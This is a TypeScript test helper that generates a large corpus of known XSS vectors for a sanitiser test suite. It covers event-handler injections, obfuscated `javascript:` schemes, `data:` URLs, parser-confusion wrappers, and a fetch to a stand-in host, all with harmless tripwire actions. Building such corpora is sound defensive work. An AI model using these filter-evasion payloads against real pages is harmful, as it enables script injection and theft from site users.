//! At least 500 distinct known XSS vectors for the XSS spec (`xss.spec.ts`), built from the
//! families the public cheat sheets list: tags × event handlers, `javascript:` and `data:` URLs
//! in every attribute that takes one (with entity, case and whitespace obfuscations), SVG, MathML,
//! template, noscript and style parser tricks, and Markdown links and images. Every vector, if it
//! ran, would trip the page's tripwire: set `window.__xss`, call `alert`/`confirm`/`prompt`
//! (stubbed by the test to set it too), change `document.title`, or send a request.
import { XSS_PAYLOADS } from "./xss-payloads";

/** What a vector runs: each one trips the test's tripwire. */
const ACTIONS = [
  "alert(1)",
  "confirm(document.domain)",
  "prompt`1`",
  "window.__xss=1",
  "top.__xss='top'",
  "document.title='xss'",
  "fetch('https://xss.example/'+(window.__xss='fetch'))",
  "eval('window.__xss=2')",
] as const;

/** Elements and the attributes that make their handler fire by itself (or on a common gesture). */
const TAG_EVENTS: readonly [string, string][] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["div", "onmouseover"],
  ["a href=#", "onclick"],
  ["style", "onload"],
  ["object data=x", "onerror"],
  ["iframe", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["div style=animation-name:spin", "onanimationstart"],
];

/** Ways an attribute's value is written: quoted, bare, with odd separators. */
const ATTRIBUTE_FORMS = [
  (event: string, action: string) => `${event}="${action}"`,
  (event: string, action: string) => `${event}=${action.replace(/ /g, "")}`,
  (event: string, action: string) => `/${event.toUpperCase()}='${action.replace(/'/g, "&#39;")}'`,
] as const;

/** `javascript:` written the ways filters have been fooled by. */
const JS_SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java&#x09;script:",
  "&#106;avascript:",
  "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
  "javascript&colon;",
  "jav&#x0A;ascript:",
  "vbscript:",
] as const;

/** Elements with a URL attribute. */
const URL_ATTRIBUTES = [
  (url: string) => `<a href="${url}">link</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<button formaction="${url}">go</button>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=20>svg link</text></a></svg>`,
  (url: string) => `<math><maction actiontype="statusline" xlink:href="${url}">m</maction></math>`,
  (url: string) => `[markdown link](${url})`,
  (url: string) => `![markdown image](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `[ref link][r]\n\n[r]: ${url}`,
] as const;

/** Parser tricks whose inner `<img onerror>` would run if the sanitiser misread the context. */
const WRAPPERS = [
  (inner: string) => `<noscript><p title="</noscript>${inner}">`,
  (inner: string) => `<template>${inner}</template>`,
  (inner: string) => `<style><style/>${inner}</style>`,
  (inner: string) => `<svg><style>${inner}</style></svg>`,
  (inner: string) => `<math><mi><table><mi><style>${inner}</style></mi></table></mi></math>`,
  (inner: string) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner: string) => `<title>${inner}</title>`,
  (inner: string) => `<textarea>${inner}</textarea>`,
  (inner: string) => `<xmp>${inner}</xmp>`,
  (inner: string) => `<!--${inner}-->`,
  (inner: string) => `\`${inner}\``,
  (inner: string) => `> ${inner}`,
] as const;

function unique(values: Iterable<string>): string[] {
  return [...new Set(values)];
}

export function buildXssCorpus(): string[] {
  const out: string[] = [...XSS_PAYLOADS];
  for (const [tag, event] of TAG_EVENTS) {
    for (const action of ACTIONS) out.push(`<${tag} ${ATTRIBUTE_FORMS[0](event, action)}>`);
    out.push(`<${tag} ${ATTRIBUTE_FORMS[1](event, "alert(1)")}>`);
    out.push(`<${tag} ${ATTRIBUTE_FORMS[2](event, "window.__xss='upper'")}>`);
  }
  for (const scheme of JS_SCHEMES) {
    for (const element of URL_ATTRIBUTES) out.push(element(`${scheme}window.__xss='url'`));
    out.push(`<a href="${scheme}alert(1)">a</a>`);
  }
  for (const data of [
    "data:text/html,<script>window.__xss='data'</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/javascript,window.__xss=1",
  ]) {
    for (const element of URL_ATTRIBUTES) out.push(element(data));
  }
  for (const wrap of WRAPPERS) {
    for (const action of ACTIONS) out.push(wrap(`<img src=x onerror="${action}">`));
    out.push(wrap("<script>window.__xss='wrapped'</script>"));
  }
  for (const action of ACTIONS) {
    out.push(`<script>${action}</script>`);
    out.push(`<ScRiPt>${action}</sCrIpT>`);
    out.push(`<script src="data:,${action}"></script>`);
    out.push(`<svg><script>${action}</script></svg>`);
    out.push(`<iframe srcdoc="<script>${action.replace(/"/g, "&quot;")}</script>"></iframe>`);
    out.push(`<meta http-equiv="refresh" content="0;url=javascript:${action}">`);
    out.push(`<base href="javascript:${action}//">`);
    out.push(`"><img src=x onerror=${action.replace(/ /g, "")}>`);
    out.push(`'><svg/onload=${action.replace(/ /g, "")}>`);
    out.push(`</textarea><script>${action}</script>`);
  }
  return unique(out);
}
